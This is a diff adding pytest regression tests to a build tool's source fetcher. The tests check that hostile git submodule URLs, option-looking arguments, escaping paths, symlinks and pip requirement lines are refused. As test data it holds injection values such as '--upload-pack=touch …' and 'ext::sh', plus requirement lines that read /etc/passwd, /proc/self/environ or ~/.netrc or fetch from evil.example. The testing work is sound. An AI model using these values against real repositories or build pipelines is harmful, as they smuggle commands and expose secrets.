@@ -191,3 +191,302 @@ def test_git_reason_names_the_fatal_lines():
         "Please make sure you have the correct access rights\nand the repository exists."))
     assert source.git_reason(exc) == ("detected dubious ownership in repository at '/srv/x'; "
                                       "Could not read from remote repository.")
+
+
+# --- a tree is untrusted input: its URLs and paths never become git options (issue 21) ----------
+
+def _hostile_lib(tmp_path, url: str, path: str = "evil", leaf_commit: str = "1" * 40) -> git.Repo:
+    return _repo(tmp_path / "hostile", {"src/k.c": "int k;\n"}, {path: (url, leaf_commit)})
+
+
+def _pinned_naming(upstream, lib) -> source.PinnedSource:
+    """The main source at a new commit whose deps.cmake names ``lib``'s head (as a re-pin would)."""
+    (Path(upstream.working_dir) / "deps.cmake").write_text(f"GIT_TAG {lib.head.commit.hexsha}\n")
+    upstream.git.add(A=True)
+    with upstream.git.custom_environment(**_ENV):
+        upstream.git.commit("-q", "-m", "re-pin")
+    return source.fetch(_src(upstream))
+
+
+def test_a_submodule_url_that_is_a_git_option_runs_no_host_command(third, upstream, tmp_path):
+    """The reported attack: `url = --upload-pack=touch /tmp/PWNED` ran the command via git fetch."""
+    canary = tmp_path / "PWNED"
+    lib = _hostile_lib(tmp_path, f"--upload-pack=touch {canary}")
+    with pytest.raises(SourceError, match=r"third-party source lib: submodule 'evil' in \.gitmodules: url "
+                                          r"'--upload-pack=.* is not an https:// or file:// git URL"):
+        source.fetch_third_party("lib", _tp(lib), _pinned_naming(upstream, lib))
+    assert not canary.exists()
+
+
+def test_a_nested_hostile_submodule_url_is_refused_with_its_full_path(third, upstream, tmp_path):
+    lib_ok, leaf = third
+    canary = tmp_path / "PWNED"
+    inner = _repo(tmp_path / "inner", {"x.h": "int x;\n"}, {"deep": (f"--upload-pack=touch {canary}", "1" * 40)})
+    outer = _repo(tmp_path / "outer", {"y.h": "int y;\n"},
+                  {"third/inner": (f"file://{inner.working_dir}", inner.head.commit.hexsha)})
+    with pytest.raises(SourceError, match=r"submodule 'third/inner/deep'"):
+        source.fetch_third_party("lib", _tp(outer), _pinned_naming(upstream, outer))
+    assert not canary.exists()
+
+
+@pytest.mark.parametrize("url", ["ext::sh -c touch% /tmp/x", "https://user:pw@example.org/x.git",
+                                 "ssh://example.org/x", "https://example.org/x y", "-u", "file://x;touch /tmp/x"])
+def test_a_submodule_url_outside_the_matrix_url_rule_is_refused(url):
+    with pytest.raises(SourceError, match="is not an https:// or file:// git URL") as err:
+        source._tree_url("lib", "https://example.org/lib.git", "sub", url)
+    assert "pw" not in str(err.value)  # a credential in a tree's URL is not printed either
+
+
+def test_relative_submodule_urls_are_checked_after_resolution():
+    assert source._tree_url("lib", "https://example.org/o/lib.git", "s", "../dep.git") == "https://example.org/o/dep.git"
+    with pytest.raises(SourceError, match="host path under an https:// source"):
+        source._tree_url("lib", "https://example.org/lib.git", "s", "file:///home/me/secret.git")
+
+
+@pytest.mark.parametrize("path", ["../outside", "a/../../b", "/abs", "a/./../.."])
+def test_a_submodule_path_leaving_the_tree_is_one_source_error(path):
+    with pytest.raises(SourceError, match="is not a relative path inside the tree"):
+        source._tree_url("lib", "https://example.org/lib.git", path, "https://example.org/x.git")
+
+
+def test_a_submodule_path_with_dotdot_in_a_real_tree_is_refused(third, upstream, tmp_path):
+    lib = _repo(tmp_path / "dots", {"a.h": "int a;\n"})
+    (Path(lib.working_dir) / ".gitmodules").write_text('[submodule "x"]\n\tpath = ../x\n\turl = ../leaf\n')
+    lib.git.add(A=True)
+    with lib.git.custom_environment(**_ENV):
+        lib.git.commit("-q", "-m", "dots")
+    with pytest.raises(SourceError, match=r"submodule '../x'.*not a relative path"):
+        source.fetch_third_party("lib", _tp(lib), _pinned_naming(upstream, lib))
+
+
+# One test per git call site: an option-looking argument stays a positional (a path, a revision).
+
+def test_fetch_by_commit_treats_an_option_url_as_a_path(tmp_path, monkeypatch):
+    monkeypatch.setenv("K3_CACHE_DIR", str(tmp_path / "cache"))
+    canary = tmp_path / "PWNED"
+    with pytest.raises(SourceError, match="cannot be fetched"):
+        source._commit_repo(f"--upload-pack=touch {canary}", "1" * 40)
+    assert not canary.exists()
+
+
+def test_ls_remote_treats_an_option_url_as_a_path(tmp_path):
+    canary = tmp_path / "PWNED"
+    with pytest.raises(SourceError, match="cannot resolve 'v1'"):
+        source._peeled_ref(f"--upload-pack=touch {canary}", "v1")
+    assert not canary.exists()
+
+
+def test_archive_treats_an_option_revision_as_a_revision(upstream, tmp_path):
+    out = tmp_path / "written.tar"
+    with pytest.raises(SourceError, match="git archive failed"):
+        source._archive_into(upstream, f"--output={out}", tmp_path / "dest")
+    assert not out.exists()
+
+
+def test_cat_file_rev_parse_and_merge_base_take_no_options_from_arguments(upstream):
+    assert source._has_commit(upstream, "--batch") is False
+    assert source._is_ancestor(upstream, "--all", upstream.head.commit.hexsha) is False
+    with pytest.raises(git.GitCommandError):
+        upstream.git.rev_parse("--verify", "--end-of-options", "--git-dir")  # what fetch() runs
+
+
+def test_gitmodules_values_with_newlines_cannot_forge_entries(tmp_path):
+    lib = _repo(tmp_path / "nl", {"a.h": "x\n"})
+    (Path(lib.working_dir) / ".gitmodules").write_text(
+        '[submodule "x"]\n\tpath = a\n\turl = "https://example.org/a\\nsubmodule.y.url=--upload-pack=id"\n')
+    lib.git.add(A=True)
+    with lib.git.custom_environment(**_ENV):
+        lib.git.commit("-q", "-m", "nl")
+    entries = source._gitmodules(lib, lib.head.commit.hexsha)
+    assert len(entries) == 1 and entries[0]["url"].startswith("https://example.org/a\n")
+
+
+def test_every_git_command_ends_its_options_before_a_positional(third, upstream, tmp_path, monkeypatch):
+    """Spy on every git command fetch, third-party fetch and export run: any word that is not an
+    option comes after `--` or `--end-of-options` (so no value can ever be read as an option)."""
+    seen: list[list[str]] = []
+    real = git.cmd.Git.execute
+
+    def spy(self, command, *args, **kwargs):
+        seen.append([str(c) for c in command])
+        return real(self, command, *args, **kwargs)
+
+    monkeypatch.setattr(git.cmd.Git, "execute", spy)
+    lib, _ = third
+    lib.create_tag("v2.0")
+    (Path(upstream.working_dir) / "deps.cmake").write_text(f"GIT_TAG {lib.head.commit.hexsha}\n# also v2.0\n")
+    upstream.git.add(A=True)
+    with upstream.git.custom_environment(**_ENV):
+        upstream.git.commit("-q", "-m", "tag")
+    pinned = source.fetch(_src(upstream))
+    pinned.export(tmp_path / "main")
+    source.fetch_third_party("lib", _tp(lib, ref="v2.0"), pinned).export(tmp_path / "tp")
+    ours = [c for c in seen if c[0] == "git" and len(c) > 1 and c[1] in
+            ("fetch", "ls-remote", "archive", "cat-file", "ls-tree", "config", "rev-parse", "merge-base")]
+    assert {c[1] for c in ours} >= {"fetch", "ls-remote", "archive", "cat-file", "ls-tree", "config", "rev-parse"}
+    for cmd in ours:
+        words = cmd[2:]
+        first_positional = next((i for i, w in enumerate(words) if not w.startswith("-")), None)
+        if first_positional is None or cmd[1] == "cat-file" and "--batch-check" in words:
+            continue
+        assert {"--", "--end-of-options"} & set(words[:first_positional]), cmd
+
+
+# --- requirement files: every spelling pip and uv accept, nothing outside the tree --------------
+
+@pytest.mark.parametrize("line", [
+    "--requirement=/proc/self/environ", "-r/proc/self/environ", "-r=/proc/self/environ", "-r /etc/passwd",
+    "--requirement /etc/passwd", "-c/etc/passwd", "--constraint=/etc/passwd", "-c ~/.netrc",
+    "-r https://evil.example/r.txt", "-r file:///etc/passwd", "-r ../../outside.txt", "-r \\\n  /etc/passwd",
+    "-e .", "--editable=/home/me/pkg", "-e git+https://evil.example/x", "-f /tmp/wheels", "--find-links=file:///x",
+    "-i file:///srv/index", "--index-url=/srv/simple", "--extra-index-url ${HOME}", "--trusted-host a/b",
+    "--pre", "--prefer-binary", "-Z", "--requir=x.txt", "--extra-index=https://x", "--config-settings=a=b",
+    "pkg @ file:///etc/passwd", "pkg@https://evil.example/p.whl", "/etc/passwd", "./local/pkg", "pkg.whl",
+    "foo==${AWS_SECRET_ACCESS_KEY}", "foo==1 --global-option=--x", "https://evil.example/x.tar.gz",
+])
+def test_a_requirement_line_that_reaches_outside_the_tree_is_refused_with_file_and_line(line):
+    data = f"packaging>=23\n# fine\n{line}\n".encode()
+    with pytest.raises(SourceError, match=r"^source requirement file req/x\.txt:3: .*refused") as err:
+        source.requirement_lines("req/x.txt", data)
+    assert "\n" not in str(err.value)
+
+
+def test_every_include_spelling_is_followed_and_index_options_are_kept_apart():
+    data = (b"-ra.txt\n-r=b.txt\n-r c.txt\n--requirement=d.txt\n--requirement e.txt\n-cf.txt\n--constraint=g.txt\n"
+            b"--extra-index-url https://flashinfer.ai/whl/\n-ihttps://x.example/simple\n--trusted-host x.example\n"
+            b"--no-index\nnumba == 0.65.0 # comment\nsix>=1.16.0; python_version > '3.11'\nfoo[a,b] >= 1, < 2 \\\n"
+            b"  ; sys_platform == 'linux'\npkg==1 --hash=sha256:" + b"0" * 64 + b"\n")
+    lines = source.requirement_lines("x.txt", data)
+    assert [ln.value for ln in lines if ln.kind == "include"] == [f"{c}.txt" for c in "abcdefg"]
+    assert [ln.lineno for ln in lines if ln.kind == "index"] == [8, 9, 10, 11]
+    req = [ln for ln in lines if ln.kind == "requirement"]
+    assert [(ln.lineno, ln.last) for ln in req] == [(12, 12), (13, 13), (14, 15), (16, 16)]
+
+
+def test_includes_in_every_spelling_are_read_and_checked(upstream):
+    work = Path(upstream.working_dir)
+    (work / "req.txt").write_text("--requirement=sub/common.txt\n-csub/pins.txt\n")
+    (work / "sub" / "pins.txt").write_text("packaging<30\n-r=../req.txt\n")
+    (work / "evil.txt").write_text("-r sub/common.txt\n--requirement=/proc/self/environ\n")
+    upstream.git.add(A=True)
+    with upstream.git.custom_environment(**_ENV):
+        upstream.git.commit("-q", "-m", "spellings")
+    pinned = source.fetch(_src(upstream))
+    assert sorted(source.resolve_includes(pinned, ("req.txt",))) == ["req.txt", "sub/common.txt", "sub/pins.txt"]
+    with pytest.raises(SourceError, match=r"evil\.txt:2: --requirement '/proc/self/environ' points outside"):
+        source.resolve_includes(pinned, ("evil.txt",))
+
+
+# --- commit time: SOURCE_DATE_EPOCH from the future ---------------------------------------------
+
+def test_a_commit_dated_2100_is_refused_in_one_line(upstream):
+    """Every mtime in the context would be newer than the clock: ninja failed "manifest still dirty
+    after 100 tries" (issue 21). Refused at the fetch, naming the source."""
+    (Path(upstream.working_dir) / "x").write_text("x")
+    upstream.git.add(A=True)
+    with upstream.git.custom_environment(**{**_ENV, "GIT_COMMITTER_DATE": "@4102444800 +0000"}):
+        upstream.git.commit("-q", "-m", "from the future")
+    with pytest.raises(SourceError, match=r"at [0-9a-f]{12}: the commit is dated 2100-01-01T00:00:00Z, ahead of "
+                                          r"this host's clock .* by more than 300s; refused") as err:
+        source.fetch(_src(upstream))
+    assert "\n" not in err.value.message
+
+
+def test_a_clock_a_little_behind_the_commit_is_warned_about(monkeypatch):
+    from builder import log
+    warned = []
+    monkeypatch.setattr(log, "warn", warned.append)
+    assert source.commit_time("source x", 1_000_060, now=1_000_000) == 1_000_060
+    assert warned and "60s ahead of this host's clock" in warned[0] and "is the clock behind?" in warned[0]
+    warned.clear()
+    assert source.commit_time("source x", 999_000, now=1_000_000) == 999_000 and not warned
+    with pytest.raises(SourceError, match="by more than 300s"):
+        source.commit_time("source x", 1_000_301, now=1_000_000)
+
+
+@pytest.mark.parametrize("links", [{"evil": "/etc/passwd"}, {"up": "../../../../etc/passwd"},
+                                   {"a": "b", "b": "a"}, {"d/self": "../d/self"}])
+def test_a_hostile_symlink_in_the_source_is_one_source_error(upstream, tmp_path, links):
+    """Absolute and escaping links (tarfile's AbsoluteLinkError, LinkOutsideDestinationError) and a
+    link loop were tracebacks (issue 21, defect 5); now one SourceError, nothing outside written."""
+    work = Path(upstream.working_dir)
+    for name, target in links.items():
+        (work / name).parent.mkdir(parents=True, exist_ok=True)
+        os.symlink(target, work / name)
+    (work / "d").mkdir(exist_ok=True)
+    (work / "d" / "f").write_text("x")
+    upstream.git.add(A=True)
+    with upstream.git.custom_environment(**_ENV):
+        upstream.git.commit("-q", "-m", "links")
+    pinned = source.fetch(_src(upstream))
+    try:
+        pinned.export(tmp_path / "out")
+    except SourceError as exc:
+        assert "\n" not in exc.message and "source archive" in exc.message
+    else:  # a loop inside the tree is only a dangling pair of links: harmless, and it stays inside
+        assert all(os.path.realpath(p).startswith(str(tmp_path / "out")) or not os.path.exists(p)
+                   for p in (tmp_path / "out").rglob("*"))
+    assert not (tmp_path / "passwd").exists()
+
+
+def test_the_fallback_filter_turns_a_symlink_loop_into_a_source_error(tmp_path, monkeypatch):
+    """Debian 12's Python 3.11.2 path: Path.resolve raises RuntimeError on a loop."""
+    def loop(*args, **kwargs):
+        raise RuntimeError("Symlink loop from '/x/a'")
+
+    monkeypatch.setattr(source, "_member_paths", loop)
+    with pytest.raises(SourceError, match="is a symlink loop"):
+        list(source._data_members(_tar([("a", "sym", "b")]), tmp_path))
+
+
+def test_a_full_cache_disk_is_resource_exhaustion_not_bad_input(upstream, tmp_path, monkeypatch):
+    """git fetching into a full K3_CACHE_DIR said exit 2 "bad input" (issue 21, defect 5)."""
+    import subprocess
+
+    from builder.errors import HostResources, failure_kind
+    assert failure_kind("fatal: write error: No space left on device", SourceError) is HostResources
+    assert failure_kind("error: unable to create file x: Read-only file system", SourceError) is HostResources
+    assert failure_kind("fatal: unable to access 'https://x/': Could not resolve host: x", SourceError) \
+        .__name__ == "Unreachable"
+    assert failure_kind("fatal: not a git repository", SourceError) is SourceError
+    (Path(upstream.working_dir) / "big.bin").write_bytes(os.urandom(3 << 20))  # incompressible
+    upstream.git.add(A=True)
+    with upstream.git.custom_environment(**_ENV):
+        upstream.git.commit("-q", "-m", "big")
+    cache = tmp_path / "tiny"
+    cache.mkdir()
+    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(cache)], capture_output=True).returncode:
+        pytest.skip("mounting a tmpfs needs privileges")
+    try:
+        monkeypatch.setenv("K3_CACHE_DIR", str(cache))
+        with pytest.raises(HostResources) as err:
+            source.fetch(_src(upstream))
+        assert err.value.exit_code == 74 and "\n" not in err.value.message
+    finally:
+        subprocess.run(["umount", str(cache)], capture_output=True)
+
+
+def test_the_archive_is_streamed_not_held_in_memory(upstream, tmp_path):
+    """A 200 MB file made `git archive` cost about twice its size in RAM (MemoryError under a
+    limit, issue 21): the export's peak memory now stays far below the file's size."""
+    import subprocess
+    import sys
+    with (Path(upstream.working_dir) / "large.bin").open("wb") as fh:
+        fh.truncate(200 << 20)  # zeros: tiny in git, 200 MB in the archive
+    upstream.git.add(A=True)
+    with upstream.git.custom_environment(**_ENV):
+        upstream.git.commit("-q", "-m", "large")
+    script = (
+        "import resource, sys; from builder import source; from builder.matrix import Source\n"
+        f"pinned = source.fetch(Source(url='file://{upstream.working_dir}', branch='k3', "
+        f"commit='{upstream.head.commit.hexsha}', package='p', version='1.0'))\n"
+        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
+        f"pinned.export(__import__('pathlib').Path('{tmp_path / 'out'}'))\n"
+        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)\n")
+    env = {**os.environ, "K3_CACHE_DIR": str(tmp_path / "cache")}
+    grown_kib = int(subprocess.run([sys.executable, "-c", script], env=env, capture_output=True, text=True,
+                                   check=True, cwd=Path(source.__file__).parents[1]).stdout.split()[-1])
+    size = (tmp_path / "out" / "large.bin").stat().st_size
+    (tmp_path / "out" / "large.bin").unlink()  # 200 MB: not kept among pytest's last runs
+    assert size == 200 << 20
+    assert grown_kib < 50 * 1024, f"the export grew the process by {grown_kib // 1024} MiB"
